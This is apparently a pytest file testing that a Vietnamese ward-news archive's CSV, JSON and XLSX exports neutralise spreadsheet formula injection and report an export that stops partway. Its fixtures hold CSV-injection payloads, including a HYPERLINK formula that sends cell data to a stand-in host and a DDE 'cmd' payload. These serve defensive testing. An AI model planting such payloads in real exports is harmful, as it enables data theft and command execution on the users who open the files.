"""Exports a spreadsheet opens safely, and that say so when they cannot finish."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import openpyxl
import pytest

from wardnews.index import build_index
from wardnews.webui import create_app

FORMULA = ("=", "+", "-", "@", "\t", "\r")
BODY = ("Ủy ban nhân dân phường Minh Khai họp bàn kế hoạch giữ gìn vệ sinh môi trường và trật "
        "tự đô thị trong các tổ dân phố, giao từng tổ nhận việc và báo cáo hằng tháng.")
HOSTILE = [
    {"title": '=HYPERLINK("http://x.example/?"&A1,"bấm vào")', "text": BODY, "category": "=1+1"},
    {"title": "+84 hộ dân được hỗ trợ", "text": BODY, "url": "=cmd|' /C calc'!A0"},
    {"title": "-5 độ C ở phường Minh Khai", "text": BODY, "category": "@SUM(A1:A9)"},
    {"title": "@Minh Khai họp dân", "text": BODY},
    {"title": "\t=1+1 phường Minh Khai", "text": BODY},
]


@pytest.fixture(scope="module")
def client(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile-export")
    corpus = root / "corpus"
    corpus.mkdir()
    lines = "\n".join(json.dumps(r, ensure_ascii=False) for r in HOSTILE)
    (corpus / "=evil.jsonl").write_text(lines + "\n", encoding="utf-8")
    build_index(corpus, root / "index")
    return create_app({"WARDNEWS_INDEX": str(root / "index"), "TESTING": True}).test_client()


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


@pytest.mark.parametrize("query", ["", "minh khai", '=HYPERLINK("http://x")', "-5", "@x"])
def test_no_cell_of_an_export_starts_a_formula(client, query):
    response = client.get("/export.csv", query_string={"q": query, "ward": "=A1", "official": "+B2"})
    assert response.status_code == 200
    cells = _cells(response.get_data(as_text=True))
    assert cells and not [c for c in cells if c.startswith(FORMULA)]
    every = _cells(client.get("/export.csv", query_string={"q": query}).get_data(as_text=True))
    assert not [c for c in every if c.startswith(FORMULA)]
    if not query:  # every hostile record was exported, neutralised, not dropped
        assert len([c for c in every if c.startswith("'")]) >= 9


def test_the_neutralised_cells_keep_their_text(client):
    cells = _cells(client.get("/export.csv").get_data(as_text=True))
    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"bấm vào\")" in cells
    assert "'=evil.jsonl" in cells and "'@SUM(A1:A9)" in cells and "'+84 hộ dân được hỗ trợ" in cells


class _Breaks:
    """Results that fail after some hits, as an index replaced mid-export does."""

    def __init__(self, hits, error):
        self.hits, self.error, self.total = hits, error, len(hits) + 100

    def __iter__(self):
        yield from self.hits
        raise self.error


@pytest.mark.parametrize("error, said", [
    (__import__("wardnews").SearchError("the index changed during the export; run it again"),
     "the index changed during the export; run it again"),
    (KeyError("boom"), "an internal error; it has been logged"),
])
def test_an_export_that_cannot_finish_says_so_at_its_end(client, monkeypatch, error, said):
    from wardnews.webui.state import get_archive

    with client.application.app_context():
        archive = get_archive()
    hits = list(archive.iter_results(""))
    monkeypatch.setattr(archive, "iter_results", lambda request: _Breaks(hits, error))
    rows = list(csv.reader(io.StringIO(client.get("/export.csv").get_data(as_text=True))))
    assert rows[-1] == ["# error", f"the export stopped here: {said}"]
    data = json.loads(client.get("/export.json").get_data(as_text=True))
    assert len(data["hits"]) == len(hits) and data["error"] == said
    book = openpyxl.load_workbook(io.BytesIO(client.get("/export.xlsx").data))
    assert book.worksheets[0].max_row == 1 + len(hits)  # what was read before the stop is kept
    assert list(book.worksheets[1].values)[-1] == ("error", f"the export stopped here: {said}")


def test_a_workbook_keeps_formula_looking_text_as_text_unchanged(client):
    data = client.get("/export.xlsx", query_string={"q": "", "ward": "=A1"}).data
    every = client.get("/export.xlsx").data
    with zipfile.ZipFile(io.BytesIO(every)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not [s for s in sheets if "<f>" in s or "<f " in s]  # no formula anywhere
    book = openpyxl.load_workbook(io.BytesIO(every))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in cells} <= {"s", "n", "d", "b"}
    from wardnews.webui.state import get_archive

    with client.application.app_context():
        indexed = {hit.title for hit in get_archive().iter_results("")}
    titles = {c.value for c in cells if c.column == 4 and c.row > 1}
    assert titles == indexed and '=HYPERLINK("http://x.example/?"&A1,"bấm vào")' in titles
    assert {t[0] for t in titles} == {"=", "+", "-", "@"}  # exactly as indexed: no apostrophe added
    assert {c.value for c in cells if c.column == 10 and c.row > 1} == {"=evil.jsonl"}
    facts = dict(openpyxl.load_workbook(io.BytesIO(data)).worksheets[1].values)
    assert facts["ward"] == "=A1"
